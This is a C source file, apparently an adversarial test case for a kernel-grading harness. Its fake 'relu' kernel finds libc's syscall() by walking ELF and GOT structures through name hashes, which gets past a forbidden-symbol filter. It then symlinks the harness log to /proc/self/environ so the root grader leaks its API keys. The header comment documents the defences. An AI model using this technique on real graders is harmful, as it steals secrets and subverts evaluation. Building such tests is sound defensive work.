/*
 * log_environ.c - makes kevo (root) read a file the candidate chose, in
 * pure C (libc's syscall() reached through the runner's GOT: no asm, no
 * forbidden symbol). The runner's stderr goes to child.log in its work
 * directory, which is also its cwd and writable by it. On its first call
 * the kernel replaces child.log with a symlink to /proc/self/environ and
 * exits with status 42, the status of a device harness giving up, after
 * which kevo used to quote the last line of child.log in its feedback:
 * with kevo's rights, that quotes kevo's own environment (API keys; the
 * test sets KEVO_API_KEY to a canary that must never appear in kevo's
 * output).
 * Nothing here can compute y, so the verdict is never `correct`; the hole
 * is the leak, which tests/integration/test_adversarial.sh looks for.
 * Defences: open the log without following symlinks (O_NOFOLLOW, check it
 * is a regular file owned as expected) or keep it out of the candidate's
 * reach (a pipe, a directory it cannot write); no special meaning for a
 * C runner's exit status 42.
 * Expected (both modes): crash or any other verdict but `correct`, and
 * nothing of /proc/self/environ in kevo's output.
 */
#include <stdint.h>
#include <string.h>

/* ---- runner GOT lookup: pure C, no symbol, no asm, no system call ----
 * The kernel is linked into the runner, so walking back page by page from
 * the kernel's own code reaches the runner's ELF header; its dynamic
 * section leads to the relocations that fill the GOT. kv_got_slot returns
 * the GOT slot of the runner's import whose name has FNV-1a hash `want`
 * (names are never spelled out), or 0. */
typedef struct {
    uint32_t type, flags;
    uint64_t offset, vaddr, paddr, filesz, memsz, align;
} kv_phdr;
typedef struct {
    int64_t tag;
    uint64_t val;
} kv_dyn;
typedef struct {
    uint64_t offset, info;
    int64_t addend;
} kv_rela;
typedef struct {
    uint32_t name;
    unsigned char info, other;
    uint16_t shndx;
    uint64_t value, size;
} kv_sym;

static uint32_t kv_fnv(const char *s)
{
    uint32_t h = 2166136261u;
    while (*s)
        h = (h ^ (unsigned char)*s++) * 16777619u;
    return h;
}

static const unsigned char *kv_elf_base(const void *inside)
{
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 16384 && p; i++, p -= 4096) {
        const unsigned char *h = (const unsigned char *)p;
        if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F')
            return h;
    }
    return 0;
}

static void **kv_got_slot(const void *inside, uint32_t want)
{
    const unsigned char *base = kv_elf_base(inside);
    if (!base)
        return 0;
    uint16_t etype, phnum;
    uint64_t phoff;
    memcpy(&etype, base + 16, 2);
    memcpy(&phoff, base + 32, 8);
    memcpy(&phnum, base + 56, 2);
    uintptr_t bias = etype == 3 /* ET_DYN */ ? (uintptr_t)base : 0;
    const kv_dyn *dyn = 0;
    for (unsigned k = 0; k < phnum; k++) {
        kv_phdr ph;
        memcpy(&ph, base + phoff + (uint64_t)k * sizeof(kv_phdr), sizeof(ph));
        if (ph.type == 2 /* PT_DYNAMIC */)
            dyn = (const kv_dyn *)(bias + ph.vaddr);
    }
    if (!dyn)
        return 0;
    uint64_t symtab = 0, strtab = 0, tab[2] = {0, 0}, tabsz[2] = {0, 0};
    for (; dyn->tag != 0; dyn++) {
        if (dyn->tag == 5) strtab = dyn->val;
        else if (dyn->tag == 6) symtab = dyn->val;
        else if (dyn->tag == 23) tab[0] = dyn->val;   /* DT_JMPREL */
        else if (dyn->tag == 2) tabsz[0] = dyn->val;  /* DT_PLTRELSZ */
        else if (dyn->tag == 7) tab[1] = dyn->val;    /* DT_RELA */
        else if (dyn->tag == 8) tabsz[1] = dyn->val;  /* DT_RELASZ */
    }
    /* ld.so may or may not have relocated the pointers in place */
    if (symtab && symtab < bias) symtab += bias;
    if (strtab && strtab < bias) strtab += bias;
    for (int t = 0; t < 2; t++)
        if (tab[t] && tab[t] < bias)
            tab[t] += bias;
    if (!symtab || !strtab)
        return 0;
    for (int t = 0; t < 2; t++) {
        for (uint64_t off = 0; tab[t] && off + sizeof(kv_rela) <= tabsz[t]; off += sizeof(kv_rela)) {
            kv_rela r;
            memcpy(&r, (const void *)(uintptr_t)(tab[t] + off), sizeof(r));
            uint32_t type = (uint32_t)r.info, si = (uint32_t)(r.info >> 32);
            if ((type != 7 /* JUMP_SLOT */ && type != 6 /* GLOB_DAT */) || si == 0)
                continue;
            kv_sym s;
            memcpy(&s, (const void *)(uintptr_t)(symtab + (uint64_t)si * sizeof(kv_sym)), sizeof(s));
            if (kv_fnv((const char *)(uintptr_t)(strtab + s.name)) == want)
                return (void **)(bias + r.offset);
        }
    }
    return 0;
}
#define KV_H_READ 0xcedfa3c5u    /* FNV-1a of the names */
#define KV_H_WRITE 0xbe269f5cu
#define KV_H_SYSCALL 0xf1d2c19au
/* ---- end of GOT lookup ---- */

/* ---- libc's syscall(), reached without naming it ----
 * First the runner's own GOT slot for it (the runner imports it); failing
 * that, a scan of libc's text (found from the runner's `read` slot) for the
 * machine code of glibc's syscall(). Returns -1 (errno style) on failure. */
typedef long (*kv_sysfn)(long, ...);

static kv_sysfn kv_find_syscall(void)
{
    void **slot = kv_got_slot((const void *)kv_find_syscall, KV_H_SYSCALL);
    if (slot && *slot)
        return (kv_sysfn)*slot;
    static const unsigned char pat[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                        0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8,
                                        0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05};
    slot = kv_got_slot((const void *)kv_find_syscall, KV_H_READ);
    const unsigned char *libc = slot && *slot ? kv_elf_base(*slot) : 0;
    if (!libc)
        return 0;
    uint64_t phoff;
    uint16_t phnum;
    memcpy(&phoff, libc + 32, 8);
    memcpy(&phnum, libc + 56, 2);
    for (unsigned k = 0; k < phnum; k++) {
        kv_phdr ph;
        memcpy(&ph, libc + phoff + (uint64_t)k * sizeof(kv_phdr), sizeof(ph));
        if (ph.type != 1 /* PT_LOAD */ || !(ph.flags & 1) /* PF_X */)
            continue;
        const unsigned char *text = libc + ph.vaddr;
        for (uint64_t off = 0; off + sizeof(pat) <= ph.memsz; off++)
            if (text[off] == 0x48 && memcmp(text + off, pat, sizeof(pat)) == 0)
                return (kv_sysfn)(uintptr_t)(text + off);
    }
    return 0;
}
/* ---- end of syscall locator ---- */

void relu(const float *x, float *y, int64_t N)
{
    (void)x, (void)y, (void)N;
    kv_sysfn sys = kv_find_syscall();
    if (!sys)
        return; /* y keeps its poison */
    sys(87 /* unlink */, (long)"child.log");
    sys(88 /* symlink */, (long)"/proc/self/environ", (long)"child.log");
    sys(231 /* exit_group */, 42L);
}
